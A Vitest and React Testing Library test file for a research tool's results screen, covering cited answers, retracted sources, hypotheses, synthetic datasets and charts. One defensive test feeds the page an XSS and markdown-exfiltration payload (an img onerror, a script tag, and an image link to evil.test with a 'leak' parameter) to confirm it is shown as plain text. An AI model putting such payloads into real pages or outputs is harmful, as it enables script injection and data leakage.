import { screen, waitFor, within } from '@testing-library/react';
import { describe, expect, it, vi } from 'vitest';
import { comeBackAfter, openScreen } from '../../../testing-screen';
import { holdAnswers, Refusal } from '../../../testing-server';
import { fakeWorkflow, researchServer } from '../testing-research';
import { fakeResults, workflowId } from '../testing-results';

Element.prototype.scrollIntoView ??= vi.fn();

const shown = `/research-system?workflow=${workflowId}`;

const documentId = '6d1f3c52-7f0e-4a39-9a55-0f5b8f3f2a10';

const processStatus = {
  process_id: 'p',
  progress: {
    ...{ current_operation: '', current_article: '', articles_done: 0, total_articles: 1 },
    ...{ percentage: 0, chunks_stored: 0, elapsed_seconds: 1, estimated_time_remaining: null },
  },
  ...{ total_chunks_stored: 0, created_at: '2026-01-10T14:20:00Z' },
  ...{ started_at: null, finished_at: null, error: null, articles: [] },
};

describe('research results', () => {
  it('shows insights, summary, answers with what their confidence rests on, and what was not found', async () => {
    researchServer(fakeWorkflow());
    const { user } = openScreen(shown);
    for (const name of [
      'Key Insights',
      'Research Summary',
      'Research Questions and Answers',
      'Research Sources',
      'Research Metadata',
    ])
      expect(await screen.findByRole('heading', { name })).toBeTruthy();
    const answer = screen.getByRole('button', { name: /^Do bladder phages/ });
    expect(answer.textContent).toContain('Medium 0.72');
    expect(screen.getByText('Confidence 0.72 rests on')).toBeTruthy();
    expect(screen.getByText('Not found in the passages that are cited: dose')).toBeTruthy();
    expect(
      screen.getByRole('region', { name: 'The sources contradict each other' }).textContent,
    ).toMatch(/Yes: fewer recurrences.*No: no difference.*1\.9 against 2\.0 a year/);
    expect(screen.getByText('say yes').parentElement?.textContent).toBe('4 say yes');
    expect(screen.getByText('check: its passage may not say this')).toBeTruthy();
    await user.click(screen.getByRole('button', { name: /^Which adverse events/ }));
    expect(
      screen.getByText('None of the 18 sources that were read says anything on this.'),
    ).toBeTruthy();
  });

  it('opens the passage of a marker from the run itself, and gives the focus back', async () => {
    researchServer(fakeWorkflow());
    const { user } = openScreen(shown);
    const [marker] = await screen.findAllByRole('button', { name: /^1, passage from/ });
    if (marker) await user.click(marker);
    const panel = await screen.findByRole('region', { name: 'Passage' });
    expect(panel.textContent).toContain('61% with phages');
    expect(within(panel).getByText('not in the library')).toBeTruthy();
    await user.keyboard('{Escape}');
    expect(document.activeElement).toBe(marker);
  });

  it('says beside each sentence of a retracted source that it is one, and in its reference', async () => {
    const told = {
      author_names: [{ family: 'Ruiz Soto', given: 'Ana' }],
      placement: { volume: '12', pages: '1-9' },
    };
    const results = fakeResults();
    const { sources } = results.research_results;
    const research_results = {
      ...results.research_results,
      sources: sources.map((source) => ({ ...source, ...told })),
    };
    const server = researchServer(fakeWorkflow(), {
      getWorkflowResults: () => ({ ...results, research_results }),
      citeReferences: () => ({ entries: ['A'], content: 'A\n', gone_count: 0 }),
    });
    const { user } = openScreen(shown);
    const answers = within(await screen.findByRole('region', { name: /Questions and Answers/ }));
    const said = answers.getByText(/^The effect lasts for/).closest('p');
    expect(said?.textContent).toMatch(/in a trial\.1 The effect lasts for years\.2Retracted/);
    const sides = answers.getByRole('region', { name: 'The sources contradict each other' });
    expect(sides.textContent).toMatch(
      /38% with placebo”1No: .*1\.9 against 2\.0 a year”2Retracted/,
    );
    const [marker] = answers.getAllByRole('button', { name: /^2, passage from/ });
    if (marker) await user.click(marker);
    const passage = within(await screen.findByRole('region', { name: 'Passage' }));
    await user.click(passage.getByRole('button', { name: 'Cite' }));
    await user.click(screen.getByRole('button', { name: /^APA 7/ }));
    await screen.findByText(/copied$/);
    expect(server.calls.find(({ name }) => name === 'citeReferences')?.body).toMatchObject({
      articles: [
        { journal: 'Journal of Urinary Research', doi: '10.5555/x', ...told, is_retracted: true },
      ],
    });
  });

  it('says beside each sentence of a source that studied no people what it studied, and where its confidence is told', async () => {
    const results = fakeResults();
    const { sources } = results.research_results;
    const studied = [{ name: 'in mice', count: 1 }];
    researchServer(fakeWorkflow(), {
      getWorkflowResults: () => ({
        ...results,
        answers: results.answers.map((answer) => ({
          ...answer,
          confidence: { ...answer.confidence, studied },
        })),
        research_results: {
          ...results.research_results,
          sources: sources.map((source) =>
            source.number === 1 ? { ...source, studied: 'in mice' } : source,
          ),
        },
      }),
    });
    openScreen(shown);
    const answers = within(await screen.findByRole('region', { name: /Questions and Answers/ }));
    const said = answers.getByText(/^The effect lasts for/).closest('p');
    expect(said?.textContent).toMatch(/in a trial\.1in mice The effect/);
    const rail = answers.getByText('Confidence 0.72 rests on').parentElement;
    expect(rail?.textContent).toContain('1 in mice');
    const list = within(screen.getByRole('region', { name: 'Research Sources' }));
    expect(list.getByText(/^Randomised trial · in mice · /)).toBeTruthy();
  });

  it('cuts what is shown of an abstract to 300 characters, and marks a source for what it is', async () => {
    researchServer(fakeWorkflow());
    const { user } = openScreen(shown);
    const [fold] = await screen.findAllByRole('button', { name: 'Abstract and preview' });
    if (fold) await user.click(fold);
    const abstract = screen.getByText(/^A long long/);
    expect(abstract.textContent?.length).toBeLessThanOrEqual(301);
    expect(abstract.textContent?.endsWith('…')).toBe(true);
    const sources = within(screen.getByRole('region', { name: 'Research Sources' }));
    for (const mark of ['Retracted', 'Preprint', 'Abstract only'])
      expect(sources.getByText(mark)).toBeTruthy();
  });

  it('marks a full text of which the beginning was read as read in part', async () => {
    const results = fakeResults();
    const reason = 'The first 400 of its 900 passages were read';
    const sources = results.research_results.sources.map((source) =>
      source.read_as === 'full_text' ? { ...source, reason } : source,
    );
    researchServer(fakeWorkflow(), {
      getWorkflowResults: () => ({
        ...results,
        research_results: { ...results.research_results, sources },
      }),
    });
    openScreen(shown);
    expect((await screen.findAllByText('Read in part')).length).toBeGreaterThan(0);
    expect(screen.queryByText(/ · read in full$/)).toBeNull();
  });

  it('lists the sources by their relevance, in whatever order they were read', async () => {
    const results = fakeResults();
    const [source, ...others] = results.research_results.sources;
    if (source === undefined) throw new Error('There are sources');
    const later = { ...source, number: 90, title: 'Read later', relevance_score: 0.99 };
    const sources = [source, ...others, later];
    researchServer(fakeWorkflow(), {
      getWorkflowResults: () => ({
        ...results,
        research_results: { ...results.research_results, sources },
      }),
    });
    openScreen(shown);
    const panel = await screen.findByRole('region', { name: 'Research Sources' });
    expect(within(panel).getAllByRole('listitem')[0]?.textContent).toContain('Read later');
  });

  it('never makes markup of what is data', async () => {
    const results = fakeResults();
    const evil = '<img src=x onerror=alert(1)> ![x](https://evil.test/?leak) <script>1</script>';
    const [answer] = results.answers;
    if (!answer) throw new Error('The fixture has an answer.');
    researchServer(fakeWorkflow({ topic: evil }), {
      getWorkflowResults: () => ({
        ...results,
        summary: evil,
        answers: [{ ...answer, paragraphs: [[{ text: evil, markers: [1], is_supported: true }]] }],
      }),
    });
    openScreen(shown);
    await screen.findByRole('heading', { name: evil });
    expect(document.querySelectorAll('main img, main script')).toHaveLength(0);
  });

  it('has the tab of hypotheses, datasets and visualizations only where there are some', async () => {
    researchServer(fakeWorkflow(), {
      getWorkflowResults: () => fakeResults({ hypotheses: [], datasets: [], visualizations: [] }),
    });
    openScreen(shown);
    await screen.findByText('No hypotheses were generated for this topic.');
    expect(screen.getByText('No datasets were generated for this topic.')).toBeTruthy();
    expect(screen.getByText('No visualizations were generated.')).toBeTruthy();
    expect(screen.getAllByRole('tab')).toHaveLength(1);
  });

  it('names above the datasets and the charts those that no run came to', async () => {
    researchServer(fakeWorkflow(), {
      getWorkflowResults: () =>
        fakeResults({ unmade: { datasets: 2, charts: 1, charts_of: [1, 2, 4] } }),
    });
    const { user } = openScreen(shown);
    await user.click(await screen.findByRole('tab', { name: /^Generated Datasets/ }));
    const said = (sentence: string) => expect(screen.getByText(sentence)).toBeTruthy();
    said('No run came to 2 datasets: going deeper on a question makes them.');
    await user.click(screen.getByRole('tab', { name: /^Visualizations/ }));
    said('No run came to 1 chart that was planned: going deeper on a question makes it.');
    said(
      'No run came to the charts of datasets 1, 2 and 4: going deeper on a question makes them.',
    );
  });

  it('says that there is nothing where a run brought nothing', async () => {
    const results = fakeResults();
    researchServer(fakeWorkflow(), {
      getWorkflowResults: () => ({
        ...results,
        summary: '',
        key_insights: [],
        answers: [],
        sections: [],
        citations: [],
        research_results: { ...results.research_results, sources: [] },
      }),
    });
    openScreen(shown);
    expect(await screen.findByText('No research results available.')).toBeTruthy();
  });

  it('walks the tabs with the arrows', async () => {
    researchServer(fakeWorkflow());
    const { user } = openScreen(shown);
    await user.click(await screen.findByRole('tab', { name: /^Research Results/ }));
    await user.keyboard('{ArrowRight}');
    expect(document.activeElement?.textContent).toBe('Research Hypotheses 1');
    expect(screen.getByRole('article', { name: 'Hypothesis 1' })).toBeTruthy();
  });

  it('has the tab and the cards open that were, on the way back from another screen', async () => {
    researchServer(fakeWorkflow());
    const { user, router } = openScreen(shown);
    await user.click(await screen.findByRole('tab', { name: /^Research Hypotheses/ }));
    await user.click(screen.getByText(fakeResults().hypotheses[0]?.statement ?? ''));
    expect(screen.getByText('Rationale')).toBeTruthy();
    await router.navigate('/chat');
    await waitFor(() => expect(screen.queryByRole('tab')).toBeNull());
    await router.navigate(-1);
    expect(await screen.findByText('Rationale')).toBeTruthy();
  });

  it('goes deeper on a question, which may be changed first', async () => {
    const server = researchServer(fakeWorkflow(), {
      continueWorkflow: () => ({ workflow_id: workflowId, status: 'running' }),
    });
    const { user } = openScreen(shown);
    await user.click(await screen.findByRole('button', { name: 'Go deeper' }));
    await user.type(screen.getByRole('textbox', { name: 'Question' }), ' In men?');
    const release = holdAnswers('/continue');
    await user.click(screen.getByRole('button', { name: 'Continue the run' }));
    await waitFor(() =>
      expect(server.calls.some(({ name }) => name === 'continueWorkflow')).toBe(true),
    );
    // The server goes on without the tab, so that the browser need not ask.
    const leaving = new Event('beforeunload', { cancelable: true });
    window.dispatchEvent(leaving);
    expect(leaving.defaultPrevented).toBe(false);
    release();
    await waitFor(() =>
      expect(server.calls.find(({ name }) => name === 'continueWorkflow')?.body).toEqual({
        question: 'Do bladder phages lower the rate of recurrence? In men?',
        hypothesis: null,
      }),
    );
  });

  it('asks before Close gives up the question that was changed', async () => {
    researchServer(fakeWorkflow());
    const { user } = openScreen(shown);
    await user.click(await screen.findByRole('button', { name: 'Go deeper' }));
    const field = screen.getByRole('textbox', { name: 'Question' });
    await user.type(field, ' In men?');
    await user.click(screen.getByRole('button', { name: 'Close' }));
    expect(screen.getByText('What was changed here is not saved.')).toBeTruthy();
    await user.click(screen.getByRole('button', { name: 'Keep editing' }));
    await user.clear(field);
    await user.paste('Do bladder phages lower the rate of recurrence?');
    await user.click(screen.getByRole('button', { name: 'Close' }));
    await waitFor(() => expect(screen.queryByRole('dialog')).toBeNull());
  });

  it('goes deeper on a hypothesis, which is judged anew then', async () => {
    const server = researchServer(fakeWorkflow(), {
      continueWorkflow: () => ({ workflow_id: workflowId, status: 'running' }),
    });
    const { user } = openScreen(shown);
    await user.click(await screen.findByRole('tab', { name: /^Research Hypotheses/ }));
    const statement = fakeResults().hypotheses[0]?.statement ?? '';
    await user.click(screen.getByText(statement));
    const card = within(screen.getByRole('article', { name: 'Hypothesis 1' }));
    await user.click(card.getByRole('button', { name: 'Go deeper' }));
    expect(screen.getByText(/the hypothesis is judged anew/)).toBeTruthy();
    await user.click(screen.getByRole('button', { name: 'Continue the run' }));
    await waitFor(() =>
      expect(server.calls.find(({ name }) => name === 'continueWorkflow')?.body).toEqual({
        question: statement,
        hypothesis: 1,
      }),
    );
  });

  it('says of insights, summary and hypotheses who wrote them, where these are several', async () => {
    const base = fakeResults();
    const [answer, ...others] = base.answers;
    const [insight] = base.key_insights;
    if (answer === undefined || insight === undefined) throw new Error('There are results');
    const second = {
      ...answer,
      question: 'Are phages safe?',
      origin: 'written' as const,
      model: 'a-model-of-tests',
      paragraphs: [[{ ...insight, text: 'They are safe.' }]],
    };
    const results = fakeResults({
      answers: [answer, second, ...others],
      key_insights: [...base.key_insights, { ...insight, text: 'They are safe.' }],
      summary_writer: { origin: 'written', model: 'a-model-of-tests' },
    });
    researchServer(fakeWorkflow(), { getWorkflowResults: () => results });
    openScreen(shown);
    expect(await screen.findByText(/^Written in part by/, { selector: 'span' })).toHaveProperty(
      'textContent',
      'Written in part by a-model-of-tests, else extracted by the built-in reader; checked by rules, not for its meaning',
    );
    expect(screen.getAllByText(/^Written by/, { selector: 'span' }).length).toBeGreaterThan(0);
  });

  it('says when it is opened what was new the last time, and looks again only when it is told to', async () => {
    const changes = {
      ...{ since: '2026-01-10T14:05:01Z', checked_at: '2026-02-01T09:00:00Z', notes: [] },
      looked: null,
      retracted: [{ source: 1, title: 'Bladder phages: a randomised trial' }],
      new_works: [
        {
          ...{
            question: 'Do bladder phages lower the rate of recurrence?',
            title: 'A later trial',
          },
          ...{ url: 'https://example.org/later', publication_date: '2026-01-20' },
          may_be_earlier: false,
        },
        {
          ...{ question: 'Do bladder phages lower the rate of recurrence?', title: 'One of 2026' },
          ...{ url: 'https://example.org/year', publication_date: '', preprint_date: '2026' },
          may_be_earlier: true,
        },
      ],
    };
    const server = researchServer(fakeWorkflow(), {
      getWorkflowResults: () => fakeResults({ changes }),
      getWorkflowChanges: () => ({ ...changes, new_works: [] }),
    });
    const { user } = openScreen(shown);
    const asked = () => server.calls.filter(({ name }) => name === 'getWorkflowChanges').length;
    const told = await screen.findByText(
      /^2 new works found, 1 of them maybe older than the run; 1 source of this run retracted since/,
    );
    expect(told.textContent).toContain('Looked ');
    await user.click(screen.getByRole('button', { name: 'Show' }));
    const dialog = await screen.findByRole('dialog');
    // The workflow ended later: works are looked for since it was set going.
    expect(
      within(dialog).getByRole('heading', { name: /^What is new since 2026-01-10 / }),
    ).toBeTruthy();
    const later = within(dialog).getByRole('link', { name: 'A later trial' });
    expect(later.closest('li')?.textContent).toBe('A later trial 2026-01-20');
    const ofYear = within(dialog).getByRole('link', { name: 'One of 2026' });
    expect(ofYear.closest('li')?.textContent).toMatch(/ preprint of 2026 \(the day is not known/);
    expect(asked()).toBe(0);
    await user.click(within(dialog).getByRole('button', { name: 'Search again' }));
    expect(await within(dialog).findByText(/^No new works were found; 1 source/)).toBeTruthy();
    expect(asked()).toBe(1);
  });

  it('goes on looking for what is new when its window is closed, and can be stopped there', async () => {
    const since = '2026-01-10T14:05:01Z';
    const looked = { searches: 2, searches_answered: 2, sources: 3, sources_known: 3 };
    const server = researchServer(fakeWorkflow(), {
      getWorkflowResults: () => fakeResults({ changes: null }),
      getWorkflowChanges: () => ({
        ...{ since, checked_at: since, new_works: [], retracted: [], looked, notes: [] },
      }),
    });
    const { user } = openScreen(shown);
    const asked = () => server.calls.filter(({ name }) => name === 'getWorkflowChanges').length;
    const release = holdAnswers('/changes');
    await user.click(await screen.findByRole('button', { name: 'What is new' }));
    await screen.findByText('Searching again for each question…');
    await user.keyboard('{Escape}');
    await waitFor(() => expect(screen.queryByRole('dialog')).toBeNull());
    await user.click(screen.getByRole('button', { name: 'What is new' }));
    expect(await screen.findByRole('button', { name: 'Cancel' })).toBeTruthy();
    await user.keyboard('{Escape}');
    await waitFor(() => expect(screen.queryByRole('dialog')).toBeNull());
    expect(asked()).toBe(1);
    release();
    expect(
      await screen.findByText(/^What is new of “Bladder phages .*No new works were found/),
    ).toBeTruthy();
  });

  it('says of a look for what is new that was stopped that it was', async () => {
    researchServer(fakeWorkflow(), {
      getWorkflowResults: () => fakeResults({ changes: null }),
    });
    const answered = window.fetch;
    vi.stubGlobal('fetch', (address: string, init: RequestInit) =>
      address.endsWith('/changes')
        ? new Promise((_, reject) => {
            init.signal?.addEventListener('abort', () => reject(init.signal?.reason));
          })
        : answered(address, init),
    );
    const { user } = openScreen(shown);
    await user.click(await screen.findByRole('button', { name: 'What is new' }));
    const dialog = await screen.findByRole('dialog');
    await user.click(await within(dialog).findByRole('button', { name: 'Cancel' }));
    expect(
      (await within(dialog).findByText(/^It was stopped: what is new/)).closest('[role="status"]'),
    ).not.toBeNull();
  });

  it('looks again for what is new where a look has ended with its window closed, and the workflow has run since', async () => {
    const since = '2026-01-10T14:05:01Z';
    const looked = { searches: 2, searches_answered: 2, sources: 3, sources_known: 3 };
    const server = researchServer(fakeWorkflow(), {
      // As it is once more after the run.
      getWorkflowResults: () => fakeResults({ changes: null }),
      getWorkflowChanges: () => ({
        ...{ since, checked_at: since, new_works: [], retracted: [], looked, notes: [] },
      }),
    });
    const { user } = openScreen(shown);
    const asked = () => server.calls.filter(({ name }) => name === 'getWorkflowChanges').length;
    const release = holdAnswers('/changes');
    await user.click(await screen.findByRole('button', { name: 'What is new' }));
    await screen.findByText('Searching again for each question…');
    await user.keyboard('{Escape}');
    await waitFor(() => expect(screen.queryByRole('dialog')).toBeNull());
    release();
    await screen.findByText(/^What is new of “Bladder phages .*No new works were found/);
    await user.click(screen.getByRole('button', { name: 'What is new' }));
    const dialog = await screen.findByRole('dialog');
    expect(await within(dialog).findByText(/^No new works were found/)).toBeTruthy();
    expect(asked()).toBe(2);
  });

  it.each([
    [
      { searches: 2, searches_answered: 0, sources: 3, sources_known: 1 },
      ['OpenAlex did not answer'],
      /^No search was answered, so that new works are not known; 1 of 3 sources of this run could be looked up for retractions, and none was found\./,
    ],
    [
      { searches: 0, searches_answered: 0, sources: 1, sources_known: 0 },
      ['The workflow asks the library alone, so nothing outside was asked.'],
      /^Nothing outside was searched for new works; none of 1 source of this run could be looked up for retractions\./,
    ],
    [
      { searches: 2, searches_answered: 2, sources: 3, sources_known: 3 },
      ['OpenAlex did not answer'],
      /^No new works were found in what was answered; no source of this run is known/,
    ],
    [
      { searches: 2, searches_answered: 2, sources: 3, sources_known: 3 },
      [],
      /^No new works were found; no source of this run is known to be retracted since\./,
    ],
  ])('says no more of what is new than was looked at: %o', async (looked, notes, sentence) => {
    const since = '2026-01-10T14:05:01Z';
    const changes = { since, checked_at: since, new_works: [], retracted: [], looked, notes };
    researchServer(fakeWorkflow(), { getWorkflowResults: () => fakeResults({ changes }) });
    openScreen(shown);
    expect(await screen.findByText(sentence)).toBeTruthy();
  });

  it('keeps a source in the library with one click, and shows it as a document when it is one', async () => {
    let isThere = false;
    const server = researchServer(fakeWorkflow(), {
      keepWorkflowSources: () => ({ process_id: 'p', message: '1 source is being taken in.' }),
      getProcessStatus: () => ({
        ...processStatus,
        status: isThere ? ('completed' as const) : ('processing' as const),
      }),
      getWorkflowResults: () => {
        const results = fakeResults();
        const [first, ...others] = results.research_results.sources;
        const kept = { ...first, source_type: 'internal', document_id: documentId };
        const sources = [isThere ? kept : first, ...others];
        return { ...results, research_results: { ...results.research_results, sources } };
      },
    });
    const { user } = openScreen(shown);
    const name = 'Keep Bladder phages: a randomised trial in the library';
    await user.click(await screen.findByRole('button', { name }));
    expect(await screen.findByText('1 source is being taken in.')).toBeTruthy();
    expect(server.calls.find(({ name }) => name === 'keepWorkflowSources')?.body).toEqual({
      sources: [1],
    });
    expect(await screen.findByText('Being taken into the library…')).toBeTruthy();
    expect(screen.queryByRole('button', { name })).toBeNull();
    isThere = true;
    await waitFor(() => expect(screen.queryByText('Being taken into the library…')).toBeNull(), {
      timeout: 5000,
    });
    const link = screen.getByRole('link', { name: 'Bladder phages: a randomised trial' });
    expect(link.getAttribute('href')).toContain(documentId);
    expect(screen.queryByRole('button', { name })).toBeNull();
  });

  it('asks again which of its sources are documents when the tab is come back to', async () => {
    const results = fakeResults();
    const [first, ...others] = results.research_results.sources;
    const kept = { ...first, source_type: 'internal', document_id: documentId };
    const withKept = (isThere: boolean) => ({
      ...results,
      research_results: {
        ...results.research_results,
        sources: [isThere ? kept : first, ...others],
      },
    });
    const server = researchServer(fakeWorkflow(), { getWorkflowResults: () => withKept(true) });
    openScreen(shown);
    const name = 'Keep Bladder phages: a randomised trial in the library';
    const link = { name: 'Bladder phages: a randomised trial' };
    expect((await screen.findByRole('link', link)).getAttribute('href')).toContain(documentId);
    server.answers.getWorkflowResults = () => withKept(false);
    await comeBackAfter(3);
    expect(await screen.findByRole('button', { name })).toBeTruthy();
    const logged = vi.spyOn(console, 'error').mockImplementation(() => {});
    server.answers.getWorkflowResults = () => new Refusal(503, 'Busy.');
    await comeBackAfter(6);
    await waitFor(() => expect(logged).toHaveBeenCalled());
    expect(screen.queryByText(/^Failed to load results/)).toBeNull();
    expect(screen.getByRole('button', { name })).toBeTruthy();
    logged.mockRestore();
  });

  it('goes on saying that sources are on their way when another tab was open meanwhile', async () => {
    let isThere = false;
    researchServer(fakeWorkflow(), {
      keepWorkflowSources: () => ({ process_id: 'p', message: '2 sources are being taken in.' }),
      getProcessStatus: () => ({
        ...processStatus,
        status: isThere ? ('completed' as const) : ('processing' as const),
      }),
      getWorkflowResults: () => {
        const results = fakeResults();
        const sources = results.research_results.sources.map((source) =>
          isThere ? { ...source, document_id: documentId } : source,
        );
        return { ...results, research_results: { ...results.research_results, sources } };
      },
    });
    const { user } = openScreen(shown);
    const all = { name: 'Keep all sources in the library' };
    await user.click(await screen.findByRole('button', all));
    expect(await screen.findAllByText('Being taken into the library…')).toHaveLength(2);
    await user.click(screen.getByRole('tab', { name: /^Research Hypotheses/ }));
    isThere = true;
    await user.click(screen.getByRole('tab', { name: /^Research Results/ }));
    expect(screen.getAllByText('Being taken into the library…')).toHaveLength(2);
    expect(screen.queryByRole('button', all)).toBeNull();
    await waitFor(() => expect(screen.queryByText('Being taken into the library…')).toBeNull(), {
      timeout: 5000,
    });
    expect(screen.queryByRole('button', all)).toBeNull();
  });
});

describe('research hypotheses', () => {
  it('are collapsed until they are opened, and then say what speaks for and against them', async () => {
    researchServer(fakeWorkflow());
    const { user } = openScreen(shown);
    await user.click(await screen.findByRole('tab', { name: /^Research Hypotheses/ }));
    const opener = screen.getByRole('button', { name: /^Giving phages/ });
    expect(opener.getAttribute('aria-expanded')).toBe('false');
    await user.click(opener);
    for (const name of ['Rationale', 'Evidence for', 'Evidence against', 'Novelty', 'Variables'])
      expect(screen.getByRole('heading', { name })).toBeTruthy();
    expect(screen.getByText('None was found in what was read.')).toBeTruthy();
    expect(screen.getByText(/^The controls are the usual ones of the field/)).toBeTruthy();
  });

  it('of code are said to be written by rules, and not extracted', async () => {
    const [hypothesis] = fakeResults().hypotheses;
    if (hypothesis === undefined) throw new Error('There is a hypothesis');
    const byCode = { ...hypothesis, origin: 'extracted' as const, model: 'built-in reader' };
    researchServer(fakeWorkflow(), {
      getWorkflowResults: () => fakeResults({ hypotheses: [byCode] }),
    });
    const { user } = openScreen(shown);
    await user.click(await screen.findByRole('tab', { name: /^Research Hypotheses/ }));
    expect(
      screen.getByText(
        'Written by rules from links that the works state; nothing was written by a model',
      ),
    ).toBeTruthy();
  });
});

describe('generated datasets', () => {
  it('say that they are made up, what is in them and whether the interval holds the planted effect', async () => {
    const server = researchServer(fakeWorkflow());
    const { user } = openScreen(shown);
    await user.click(await screen.findByRole('tab', { name: 'Generated Datasets 2' }));
    const card = within(
      screen.getByRole('article', { name: 'Recurrence within 90 days by treatment group' }),
    );
    expect(card.getByText('Synthetic')).toBeTruthy();
    expect(card.getByText('Interval holds the planted effect')).toBeTruthy();
    expect(card.getByText('recovered').closest('div')?.textContent).toContain('0.381 [0.31, 0.45]');
    expect(card.getByText('recurrence_90d', { selector: 'dd' })).toBeTruthy();
    expect(card.getByText('writer-1, checked by code')).toBeTruthy();
    expect(await card.findByText('First 0 of 1,000 rows, 0 variables')).toBeTruthy();
    await user.click(card.getByRole('button', { name: /^Preview of/ }));
    expect(card.queryByText('First 0 of 1,000 rows, 0 variables')).toBeNull();
    await user.click(card.getByRole('button', { name: /^Parquet of/ }));
    await waitFor(() =>
      expect(server.calls.find(({ name }) => name === 'downloadDataset')?.query.format).toBe(
        'parquet',
      ),
    );
    expect(screen.getByText('Unknown error occurred during dataset generation')).toBeTruthy();
    expect(screen.getByText('50.0%')).toBeTruthy();
  });
});

describe('the preview of a dataset', () => {
  it('shows what the values of each column come to', async () => {
    const column = {
      label: '',
      kind: 'number',
      count: 1000,
      missing: 0,
      histogram: [{ label: '1', count: 2 }],
    };
    const numbers = { min: 18, q1: 30.25, median: 41, q3: 52.5, max: 84, mean: 42.1234, sd: 12.5 };
    researchServer(fakeWorkflow(), {
      previewDataset: () => ({
        columns: [
          { ...column, name: 'age', role: 'control', unit: 'years', distinct: 60, numbers },
          {
            ...{ ...column, name: 'group', role: 'independent', unit: '', distinct: 2 },
            ...{ numbers: null, missing: 3, kind: 'category' },
            histogram: ['phage', 'placebo'].map((label) => ({ label, count: 4 })),
          },
        ],
        rows: [[41, 'phage']],
        total_rows: 1000,
      }),
    });
    const { user } = openScreen(shown);
    await user.click(await screen.findByRole('tab', { name: 'Generated Datasets 2' }));
    const rows = within(await screen.findByRole('region', { name: /^Rows of/ }));
    const [age, group] = rows.getAllByRole('columnheader');
    for (const line of ['18–84', 'mean 42.12, SD 12.5', 'median 41, quartiles 30.25–52.5'])
      expect(within(age as HTMLElement).getByText(line)).toBeTruthy();
    expect(within(group as HTMLElement).getByText('phage, placebo, 3 missing')).toBeTruthy();
    expect(group?.textContent).not.toContain('mean');
  });
});

describe('visualizations', () => {
  it('say what they show, open over the whole screen, are saved by their title, and that a picture is missing', async () => {
    const saved: string[] = [];
    vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(function (
      this: HTMLAnchorElement,
    ) {
      saved.push(this.download);
    });
    researchServer(fakeWorkflow());
    const { user } = openScreen(shown);
    await user.click(await screen.findByRole('tab', { name: 'Visualizations 2' }));
    const card = within(
      screen.getByRole('article', { name: 'Share of resistant isolates by day' }),
    );
    expect(await card.findByText('Failed to load image')).toBeTruthy();
    expect(screen.getByText('Unknown error occurred during visualization generation')).toBeTruthy();
    await user.click(card.getByRole('button', { name: /^Full Screen/ }));
    const dialog = await screen.findByRole('dialog', {
      name: 'Share of resistant isolates by day',
    });
    await user.click(within(dialog).getByRole('button', { name: 'Close' }));
    await waitFor(() => expect(screen.queryByRole('dialog')).toBeNull());
    vi.stubGlobal('fetch', () => Promise.resolve(new Response('PNG')));
    await user.click(card.getByRole('button', { name: /^Download/ }));
    await waitFor(() => expect(saved).toEqual(['Share of resistant isolates by day.png']));
    vi.restoreAllMocks();
  });
});
